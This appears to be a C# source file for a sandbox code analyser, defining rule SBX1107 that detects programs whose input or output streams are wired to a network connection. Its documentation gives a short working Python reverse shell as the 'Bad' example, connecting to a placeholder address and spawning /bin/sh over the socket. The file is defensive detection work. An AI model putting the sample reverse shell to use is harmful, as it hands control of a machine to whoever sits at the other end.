using Sandbox.Analysis.Diagnostics;
using Sandbox.Analysis.Resolution;

namespace Sandbox.Analysis.Rules.Process;

/// <summary>SBX1107: connects a program to the network.</summary>
public sealed class RemoteShellRule() : EffectRule(
    new DiagnosticDescriptor("SBX1107", "remote-shell", Category.Process, "Connects a program to the network", 60, 91, [78, 506], "high"),
    new RuleDocumentation(
        What: "A program or shell whose command or streams come from a network connection: given as an argument, or put in the place of a standard stream by `os.dup2`.",
        Why: "This is a remote shell: whoever is at the other end works on the machine.",
        Bad: """
            import os
            import pty
            import socket

            connection = socket.create_connection(("203.0.113.5", 443))
            os.dup2(connection.fileno(), 0)
            pty.spawn("/bin/sh")
            """,
        Good: """
            import json

            print(json.dumps({"signal": 1}))  # neither connections nor programs in nodes
            """,
        Allow: Allowing.Points),
    "process.streams")
{
    /// <summary>Notes a stream that leads to the network; the finding is made where a program is started.</summary>
    public override Verdict? Judge(EffectUse use)
    {
        use.Context.HasConnectedStreams |= (use.ArgumentTaint & Taint.Network) != 0;
        return null;
    }

    /// <summary>What is to be said of a program's start that is connected to the network; null where it is not.</summary>
    internal static Verdict? JudgeStart(EffectUse use)
    {
        if (use.Call is not { } call || (!use.Context.HasConnectedStreams && (use.ArgumentTaint & Taint.Network) == 0))
            return null;
        var cause = call.Arguments.Concat(call.Keywords.Select(keyword => keyword.Value)).FirstOrDefault(value => (value.Taint & Taint.Network) != 0);
        return use.At(60, 91, $"Connects a program to the network: {use.Description}", cause) with { RuleId = "SBX1107" };
    }
}
